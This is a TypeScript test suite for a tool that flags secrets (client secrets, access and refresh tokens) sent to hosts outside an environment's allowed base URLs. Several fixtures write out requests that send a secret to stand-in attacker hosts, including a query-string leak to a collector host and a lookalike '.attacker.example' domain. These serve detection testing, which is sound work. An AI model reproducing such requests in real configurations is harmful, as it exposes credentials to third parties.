// E_SECRET_DESTINATION and E_SEND_TO: a secret is sent only to the hosts of the base URL variables its environment
// names in `sendTo`. A table of projects, each with the exact diagnostics it must give (none for the valid ones).
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { buildProject } from '../../src/emit/build-project.ts';
import { inferSendToForFiles } from '../../src/spec/infer-send-to.ts';
import { minimalProject, tempProject } from '../support/helpers.ts';

const env = (name: string, variables: string): string =>
  `$kind: mvpm-environment\nname: ${name}\nvariables:\n  authBaseUrl: { value: "https://login.example.com" }\n` +
  `  apiBaseUrl: { value: "https://api.example.com" }\n${variables}`;
const SECRETS =
  '  ClientSecret: { secret: true, sendTo: [authBaseUrl] }\n  access_token: { secret: true, sendTo: [apiBaseUrl] }\n' +
  '  refresh_token: { secret: true, sendTo: [authBaseUrl] }\n';
const ENVIRONMENTS = {
  'specs/environments/one.environment.yaml': env('One', SECRETS),
  'specs/environments/two.environment.yaml': env('Two', SECRETS),
};
const request = (url: string, rest = ''): string => `$kind: mvpm-request\nmethod: POST\nurl: "${url}"\n${rest}`;
const sendsSecret = (url: string): string =>
  request(url, 'body:\n  type: urlencoded\n  content:\n    client_secret: "{{ClientSecret}}"\n');
const collection = (rest: string): string => `$kind: mvpm-collection\nname: Demo\n${rest}`;
const OAUTH2 = (accessTokenUrl: string, extra = ''): string =>
  collection(
    `auth:\n  type: oauth2\n  credentials:\n    grant_type: authorization_code\n` +
      `    authUrl: "{{authBaseUrl}}/connect/authorize"\n    accessTokenUrl: "${accessTokenUrl}"\n` +
      `    clientSecret: "{{ClientSecret}}"\n` +
      `    accessToken: "{{access_token}}"\n${extra}`,
  );
const hintFor = (variable: string, bases: string): string =>
  `send it only where the URL starts with ${bases}; if this host should receive it, add its base URL variable to ` +
  `\`sendTo\` of \`${variable}\` in specs/environments/one.environment.yaml`;
const AUTH_ONLY = hintFor('ClientSecret', '`{{authBaseUrl}}/`');

const CASES: { name: string; files: Record<string, string | undefined>; expected: string[] }[] = [
  {
    name: "the issue's case: the client secret in the query of a request to another host",
    files: { 'specs/demo/Ping.request.yaml': request('https://collector.example.net/c?s={{ClientSecret}}') },
    expected: [
      `E_SECRET_DESTINATION specs/demo/Ping.request.yaml:3:41 \`{{ClientSecret}}\` would be sent to ` +
        `\`https://collector.example.net/c?s={{ClientSecret}}\`: environment "One" allows \`ClientSecret\` ` +
        `only to \`{{authBaseUrl}}\` | ${AUTH_ONLY}`,
    ],
  },
  {
    name: 'to its own base: allowed',
    files: { 'specs/demo/Ping.request.yaml': sendsSecret('{{authBaseUrl}}/connect/token') },
    expected: [],
  },
  {
    name: 'to its base exactly, or with a query: allowed',
    files: {
      'specs/demo/A.request.yaml': sendsSecret('{{authBaseUrl}}'),
      'specs/demo/B.request.yaml': sendsSecret('{{authBaseUrl}}?x=1'),
    },
    expected: [],
  },
  {
    name: 'to another declared base',
    files: { 'specs/demo/Ping.request.yaml': sendsSecret('{{apiBaseUrl}}/assets') },
    expected: [
      `E_SECRET_DESTINATION specs/demo/Ping.request.yaml:7:21 \`{{ClientSecret}}\` would be sent to ` +
        `\`{{apiBaseUrl}}/assets\`: environment "One" allows \`ClientSecret\` only to \`{{authBaseUrl}}\` | ` +
        `${AUTH_ONLY}`,
    ],
  },
  {
    name: 'to a host that merely starts like the base',
    files: { 'specs/demo/Ping.request.yaml': sendsSecret('{{authBaseUrl}}.attacker.example/x') },
    expected: [
      `E_SECRET_DESTINATION specs/demo/Ping.request.yaml:7:21 \`{{ClientSecret}}\` would be sent to ` +
        `\`{{authBaseUrl}}.attacker.example/x\`: environment "One" allows \`ClientSecret\` only to ` +
        `\`{{authBaseUrl}}\` | ${AUTH_ONLY}`,
    ],
  },
  {
    name: 'to the literal host of the base: still refused, the variable is the contract',
    files: {
      'specs/demo/Ping.request.yaml': request(
        'https://login.example.com/t',
        'headers:\n  X-Secret: "{{ClientSecret}}"\n',
      ),
    },
    expected: [
      `E_SECRET_DESTINATION specs/demo/Ping.request.yaml:5:14 \`{{ClientSecret}}\` would be sent to ` +
        `\`https://login.example.com/t\`: environment "One" allows \`ClientSecret\` only to ` +
        `\`{{authBaseUrl}}\` | ${AUTH_ONLY}`,
    ],
  },
  {
    name: 'in a header name, and in a body key',
    files: {
      'specs/demo/Ping.request.yaml': request(
        '{{apiBaseUrl}}/x',
        'headers:\n  "{{refresh_token}}": x\nbody:\n  type: json\n  content:\n    nested: { "{{ClientSecret}}": 1 }\n',
      ),
    },
    expected: [
      `E_SECRET_DESTINATION specs/demo/Ping.request.yaml:5:4 \`{{refresh_token}}\` would be sent to ` +
        `\`{{apiBaseUrl}}/x\`: environment "One" allows \`refresh_token\` only to \`{{authBaseUrl}}\` | ` +
        `${hintFor('refresh_token', '`{{authBaseUrl}}/`')}`,
      `E_SECRET_DESTINATION specs/demo/Ping.request.yaml:9:16 \`{{ClientSecret}}\` would be sent to ` +
        `\`{{apiBaseUrl}}/x\`: environment "One" allows \`ClientSecret\` only to \`{{authBaseUrl}}\` | ${AUTH_ONLY}`,
    ],
  },
  {
    name: 'compared with a response, not sent: allowed',
    files: {
      'specs/demo/Ping.request.yaml': request(
        'https://elsewhere.example/x',
        'expect:\n  body:\n    $.token: { notEquals: "{{refresh_token}}" }\n',
      ),
    },
    expected: [],
  },
  {
    name: 'OAuth 2.0: the client secret goes to the token URL, the access token to each inheriting request',
    files: {
      'specs/demo/.resources/definition.yaml': OAUTH2('https://tokens.attacker.example/token'),
      'specs/demo/Ping.request.yaml': request('{{apiBaseUrl}}/a'),
      'specs/demo/Sub/Elsewhere.request.yaml': request('https://elsewhere.example/a'),
      'specs/demo/Open/.resources/definition.yaml': '$kind: mvpm-folder\nauth: { type: noauth }\n',
      'specs/demo/Open/Anywhere.request.yaml': request('https://anywhere.example/a'),
    },
    expected: [
      `E_SECRET_DESTINATION specs/demo/.resources/definition.yaml:9:20 \`{{ClientSecret}}\` would be sent to ` +
        `\`https://tokens.attacker.example/token\` (\`auth.credentials.accessTokenUrl\`): environment ` +
        `"One" allows \`ClientSecret\` only to \`{{authBaseUrl}}\` | ${AUTH_ONLY}`,
      `E_SECRET_DESTINATION specs/demo/.resources/definition.yaml:10:19 \`{{access_token}}\` would be sent with ` +
        `"Sub / Elsewhere" to \`https://elsewhere.example/a\`: environment "One" allows \`access_token\` ` +
        `only to \`{{apiBaseUrl}}\` | ${hintFor('access_token', '`{{apiBaseUrl}}/`')}`,
    ],
  },
  {
    name: 'OAuth 2.0 to its declared bases: allowed; an empty refresh URL means the token URL',
    files: {
      'specs/demo/.resources/definition.yaml': OAUTH2('{{authBaseUrl}}/connect/token', '    refreshTokenUrl: ""\n'),
      'specs/demo/Ping.request.yaml': request('{{apiBaseUrl}}/a'),
    },
    expected: [],
  },
  {
    name: 'autoRefresh sends the client secret and the refresh token to its tokenUrl',
    files: {
      'specs/demo/.resources/definition.yaml': collection(
        'autoRefresh:\n  tokenUrl: "{{apiBaseUrl}}/token"\n  clientId: demo\n  clientSecret: "{{ClientSecret}}"\n',
      ),
    },
    expected: [
      `E_SECRET_DESTINATION specs/demo/.resources/definition.yaml:3:1 the refresh token \`refresh_token\` would be ` +
        `sent to \`{{apiBaseUrl}}/token\` (\`autoRefresh.tokenUrl\`): environment "One" allows ` +
        `\`refresh_token\` only to \`{{authBaseUrl}}\` | ${hintFor('refresh_token', '`{{authBaseUrl}}/`')}`,
      `E_SECRET_DESTINATION specs/demo/.resources/definition.yaml:6:18 \`{{ClientSecret}}\` would be sent to ` +
        `\`{{apiBaseUrl}}/token\` (\`autoRefresh.tokenUrl\`): environment "One" allows \`ClientSecret\` ` +
        `only to \`{{authBaseUrl}}\` | ${AUTH_ONLY}`,
    ],
  },
  {
    name: 'a copy made by a capture, or by a collection variable, is guarded as the original',
    files: {
      'specs/demo/.resources/definition.yaml': collection('variables:\n  wrapped: "Basic {{ClientSecret}}"\n'),
      'specs/demo/A.request.yaml': request(
        '{{authBaseUrl}}/t',
        'order: 1\ncapture:\n  kept: { variable: refresh_token }\n',
      ),
      'specs/demo/B.request.yaml': request(
        'https://elsewhere.example/b?k={{kept}}',
        'order: 2\nheaders:\n  Authorization: "{{wrapped}}"\n',
      ),
    },
    expected: [
      `E_SECRET_DESTINATION specs/demo/B.request.yaml:3:37 \`{{kept}}\` (a copy of \`refresh_token\`) would be sent ` +
        `to \`https://elsewhere.example/b?k={{kept}}\`: environment "One" allows \`refresh_token\` only to ` +
        `\`{{authBaseUrl}}\` | ${hintFor('refresh_token', '`{{authBaseUrl}}/`')}`,
      `E_SECRET_DESTINATION specs/demo/B.request.yaml:6:19 \`{{wrapped}}\` (a copy of \`ClientSecret\`) would be ` +
        `sent to \`https://elsewhere.example/b?k={{kept}}\`: environment "One" allows \`ClientSecret\` ` +
        `only to \`{{authBaseUrl}}\` | ${AUTH_ONLY}`,
    ],
  },
  {
    name: 'a capture into a base URL variable',
    files: {
      'specs/demo/Ping.request.yaml': request('{{apiBaseUrl}}/x', 'capture:\n  authBaseUrl: { header: Location }\n'),
    },
    expected: [
      'E_SECRET_DESTINATION specs/demo/Ping.request.yaml:5:3 capturing into `authBaseUrl` would let a response ' +
        'choose where `ClientSecret` is sent: environment "One" sends it only to `{{authBaseUrl}}` | ' +
        'capture into another variable: the base URL variables named in `sendTo` come from the environment ' +
        'only',
    ],
  },
  {
    name: 'a secret without sendTo, sent by a request: once, at the environment, naming the first use',
    files: {
      'specs/environments/two.environment.yaml': env(
        'Two',
        '  ClientSecret: { secret: true }\n  access_token: { secret: true, sendTo: [apiBaseUrl] }\n' +
          '  refresh_token: { secret: true, sendTo: [authBaseUrl] }\n',
      ),
      'specs/demo/A.request.yaml': sendsSecret('{{authBaseUrl}}/a'),
      'specs/demo/B.request.yaml': sendsSecret('{{authBaseUrl}}/b'),
    },
    expected: [
      'E_SEND_TO specs/environments/two.environment.yaml:6:3 secret `ClientSecret` is sent to `{{authBaseUrl}}/a` ' +
        '(specs/demo/A.request.yaml:7:21), but environment "Two" does not say where it may go | add ' +
        '`sendTo: [authBaseUrl]` to `ClientSecret`: the base URL variables whose hosts may receive it',
    ],
  },
  {
    name: 'a secret without sendTo that no request sends: fine',
    files: {
      'specs/environments/one.environment.yaml': env('One', `${SECRETS}  unused: { secret: true }\n`),
      'specs/environments/two.environment.yaml': env('Two', `${SECRETS}  unused: { secret: true }\n`),
    },
    expected: [],
  },
  {
    name: 'sendTo on a variable that is not secret guards it too',
    files: {
      'specs/environments/one.environment.yaml': env(
        'One',
        `${SECRETS}  demoKey: { value: public, sendTo: [apiBaseUrl] }\n`,
      ),
      'specs/environments/two.environment.yaml': env('Two', `${SECRETS}  demoKey: { value: public }\n`),
      'specs/demo/Ping.request.yaml': request('{{authBaseUrl}}/x', 'headers:\n  X-Key: "{{demoKey}}"\n'),
    },
    expected: [
      `E_SECRET_DESTINATION specs/demo/Ping.request.yaml:5:11 \`{{demoKey}}\` would be sent to ` +
        `\`{{authBaseUrl}}/x\`: environment "One" allows \`demoKey\` only to \`{{apiBaseUrl}}\` | ` +
        `${hintFor('demoKey', '`{{apiBaseUrl}}/`')}`,
    ],
  },
  {
    name: 'sendTo naming what is not a base URL (an empty value, filled in at run time, is fine)',
    files: {
      'specs/environments/one.environment.yaml': env(
        'One',
        '  ClientSecret: { secret: true, sendTo: [apiBaseURL, token, path, creds, later] }\n' +
          '  token: { secret: true }\n  path: { value: /v1 }\n  creds: { value: ' +
          '"https://user@api.example.com" }\n  later: { value: "" }\n',
      ),
      'specs/environments/two.environment.yaml': env(
        'Two',
        '  ClientSecret: { secret: true, sendTo: [authBaseUrl] }\n  token: { secret: true }\n' +
          '  path: { value: /v1 }\n  creds: { value: "" }\n  later: { value: "" }\n',
      ),
    },
    expected: [
      'E_SEND_TO specs/environments/one.environment.yaml:6:42 `sendTo` of `ClientSecret` names `apiBaseURL`, which ' +
        'environment "One" does not define | did you mean `apiBaseUrl`?',
      'E_SEND_TO specs/environments/one.environment.yaml:6:54 `sendTo` of `ClientSecret` names `token`, which is ' +
        'secret: its value is not in the spec, so where it points cannot be checked | name a variable ' +
        'whose value is a base URL: http:// or https://, a host, an optional port and path, and no user ' +
        'name, query, fragment or {{variable}}',
      'E_SEND_TO specs/environments/one.environment.yaml:6:61 `sendTo` of `ClientSecret` names `path`, whose value ' +
        '`/v1` is not a base URL | name a variable whose value is a base URL: http:// or https://, a host, ' +
        'an optional port and path, and no user name, query, fragment or {{variable}}',
      'E_SEND_TO specs/environments/one.environment.yaml:6:67 `sendTo` of `ClientSecret` names `creds`, whose value ' +
        '`https://user@api.example.com` is not a base URL | name a variable whose value is a base URL: ' +
        'http:// or https://, a host, an optional port and path, and no user name, query, fragment or ' +
        '{{variable}}',
    ],
  },
  {
    name: 'a URL led by an undefined variable is left to E_UNDEFINED_VARIABLE',
    files: { 'specs/demo/Ping.request.yaml': sendsSecret('{{authBase}}/t') },
    expected: [
      'E_UNDEFINED_VARIABLE specs/demo/Ping.request.yaml:3:7 `{{authBase}}` is not defined | did you mean ' +
        '`authBaseUrl`?',
    ],
  },
];

function render(d: {
  code: string;
  file: string;
  line: number;
  column: number;
  message: string;
  hint?: string;
}): string {
  return `${d.code} ${d.file}:${d.line}:${d.column} ${d.message}${d.hint ? ` | ${d.hint}` : ''}`;
}

describe('secret destinations: each case gives exactly these diagnostics', () => {
  for (const c of CASES) {
    test(c.name, async () => {
      const project = tempProject(
        minimalProject({ 'specs/demo/Ping.request.yaml': request('{{apiBaseUrl}}/ping'), ...ENVIRONMENTS, ...c.files }),
      );
      try {
        const result = await buildProject({ cwd: project.dir });
        assert.deepEqual(result.errors.map(render), c.expected);
        assert.equal(result.files.length > 0, c.expected.length === 0);
      } finally {
        project.cleanup();
      }
    });
  }
});

describe('sendTo for imported specs', () => {
  test('each secret gets the bases of the URLs its uses go to, and nothing for a secret no request sends', () => {
    const files = [
      { path: 'demo/.resources/definition.yaml', content: OAUTH2('{{authBaseUrl}}/connect/token') },
      {
        path: 'demo/API/Get.request.yaml',
        content: request('{{apiBaseUrl}}/a', 'capture:\n  old: { variable: refresh_token }\n'),
      },
      {
        path: 'demo/Refresh.request.yaml',
        content: request(
          '{{authBaseUrl}}/t',
          'auth: { type: noauth }\nbody:\n  type: urlencoded\n  content:\n    refresh_token: "{{old}}"\n',
        ),
      },
      {
        path: 'environments/one.environment.yaml',
        content: env(
          'One',
          '  ClientSecret: { secret: true }\n  access_token: { secret: true }\n  refresh_token: { secret: true }\n' +
            '  unused: { secret: true }\n  fixed: { secret: true, sendTo: [apiBaseUrl] }\n',
        ),
      },
    ];
    const inferred = inferSendToForFiles(files);
    assert.deepEqual([...inferred.keys()], ['environments/one.environment.yaml']);
    assert.deepEqual(Object.fromEntries(inferred.get('environments/one.environment.yaml')!), {
      ClientSecret: ['authBaseUrl'],
      access_token: ['apiBaseUrl'],
      refresh_token: ['authBaseUrl'],
    });
  });
});
